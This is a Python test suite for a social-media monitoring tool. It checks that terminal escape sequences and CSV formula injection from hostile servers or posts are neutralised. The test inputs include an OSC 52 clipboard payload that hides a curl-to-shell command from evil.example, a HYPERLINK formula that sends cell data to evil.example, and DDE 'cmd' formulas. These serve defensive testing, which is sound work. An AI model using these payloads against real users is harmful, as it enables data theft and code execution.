"""Outside text that is not a post: a server's error text on its way to health.json, the header
and `collect --once`, and hostile posts on their way into a spreadsheet (CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from httpserver import FeedServer, feed_server_fixture  # noqa: F401 (the feed_server fixture)
from test_mastodon import Paged, make_source, mention_for, notification
from tui_helpers import make_app, mention, screen_lines

from sources.http import make_client
from sources.poller import Poller
from sources.registry import build_sources
from sources.replies import Replier
from sources.source import SourceError
from store import Store
from tests.conftest import write_config
from webcare.config import load
from webcare.intake import Intake

ROOT = Path(__file__).resolve().parent.parent

# What a hostile (or broken) API might put in its error text: set the clipboard (OSC 52),
# clear the screen, retitle the terminal, and turn the rest of the line around (bidi).
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x1b[2J\x1b[H"
    "\x1b]0;webcare: all clear\x07"
    "quota \u202egnissim\u202c exceeded\x9b31m\x07"
)
TAG_PATH = "/api/v1/timelines/tag/vlm"


def assert_clean(text: str) -> None:
    for bad in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "]52;", "[2J", "]0;"):
        assert bad not in text, (bad, text)


def hostile_server(feed_server: FeedServer) -> str:
    feed_server.serve(
        TAG_PATH,
        json.dumps({"error": HOSTILE}).encode(),
        status=500,
        content_type="application/json",
    )
    return f"""
[[sources]]
type = "mastodon"
name = "mastodon"
instance = "{feed_server.base}"
hashtags = ["vlm"]
"""


def webcare(*args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run(
        [sys.executable, "-m", "webcare.cli", *args], capture_output=True, text=True, timeout=60, env=env
    )


def test_collect_once_and_health_json_show_a_servers_error_cleaned(tmp_path, feed_server):
    path = write_config(tmp_path, hostile_server(feed_server))
    result = webcare("collect", "--once", "--config", str(path))
    assert result.returncode == 1  # the source failed
    assert_clean(result.stdout)
    assert_clean(result.stderr)
    line = next(line for line in result.stdout.splitlines() if line.startswith("mastodon:"))
    assert "HTTP 500" in line and "quota gnissim exceeded" in line  # the words stay readable
    health = json.loads((tmp_path / "data" / "health.json").read_text(encoding="utf-8"))
    error = health["sources"]["mastodon"]["last_error"]
    assert "HTTP 500" in error
    assert_clean(error)


async def test_the_header_shows_a_servers_error_cleaned(tmp_path, feed_server, clock):
    config = load(write_config(tmp_path, hostile_server(feed_server)))
    store = Store(config.data_dir)
    await Poller(build_sources(config), Intake(config), store).poll_once()
    assert store.read_health()["sources"]["mastodon"]["state"] == "failing"
    app = make_app(config, clock)
    async with app.run_test(size=(160, 30)) as pilot:
        await pilot.pause()
        top = "\n".join(screen_lines(app)[:3])
    assert "mastodon: in storing (" in top  # with the start of its (cleaned) error
    assert_clean(top)


# --- CSV injection -------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spreadsheets that trim the cell first
    "\uff1d1+1",  # a full-width equals sign, folded to "=" by some spreadsheets
]


def test_csv_exports_open_hostile_cells_as_text(tmp_path, clock):
    path = write_config(tmp_path)
    config = load(path)
    now = clock()
    hostile = [
        mention(i, now, text=text, author="=evil" if i == 0 else "@burger", author_name="-Burger")
        for i, text in enumerate(FORMULAS)
    ]
    safe = mention(99, now, text="Een gewone vraag over de VLM", author="@burger")
    Store(config.data_dir).add([*hostile, safe])

    out = tmp_path / "m.csv"
    result = webcare("export", "mentions", "--format", "csv", "-o", str(out), "--config", str(path))
    assert result.returncode == 0, result.stderr
    with open(out, encoding="utf-8", newline="") as f:  # a CR inside a cell stays a CR
        rows = {r["id"]: r for r in csv.DictReader(f)}
    for i, text in enumerate(FORMULAS):
        row = rows[f"m{i}"]
        assert row["text"] == "'" + text  # as text, and nothing else changed
        assert row["author_name"] == "'-Burger"
    assert rows["m0"]["author"] == "'=evil"
    assert rows["m99"]["text"] == "Een gewone vraag over de VLM"  # ordinary cells as they were
    assert rows["m99"]["author"] == "'@burger"  # a handle starting with @ too: Excel runs @…

    access = webcare("export", "mentions", "--format", "csv", "--author", "=evil", "--config", str(path))
    assert access.returncode == 0, access.stderr
    [row] = list(csv.DictReader(io.StringIO(access.stdout, newline="")))
    assert row["author"] == "'=evil" and row["text"] == "'" + FORMULAS[0]


async def test_a_platforms_refusal_of_a_reply_reaches_the_desk_cleaned(
    make_config, feed_server, monkeypatch
):
    """The composer shows why a reply was not sent: the platform's own words, cleaned."""
    monkeypatch.setenv("MASTODON_TOKEN", "s3cret")
    Paged(feed_server, "/api/v1/notifications", [notification(1)])
    feed_server.serve(
        "/api/v1/statuses", json.dumps({"error": HOSTILE}).encode(), status=422,
        content_type="application/json",
    )  # fmt: skip
    source = make_source(make_config, instance=feed_server.base, token_env="MASTODON_TOKEN")
    async with make_client() as client:
        (item,) = await source.fetch(client)
    with pytest.raises(SourceError) as info:
        await Replier(source)(mention_for(make_config, item), "Dank voor uw vraag.")
    assert "HTTP 422" in str(info.value) and "quota gnissim exceeded" in str(info.value)
    assert_clean(str(info.value))


def test_a_sources_warning_reaches_standard_error_cleaned(tmp_path):
    """Sources warn through logging (no handler is configured, so its last-resort handler
    writes to standard error): what a warning quotes from a server is cleaned there too."""
    path = write_config(tmp_path)
    script = (
        "import logging, sys\n"
        "from webcare import cli\n"
        f"cli.main(['check', '--config', {str(path)!r}])\n"
        f"logging.getLogger('sources.imap').warning('mailbox: %s', {HOSTILE!r})\n"
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, env=env)
    assert "mailbox: quota gnissim exceeded" in result.stderr
    assert_clean(result.stderr)
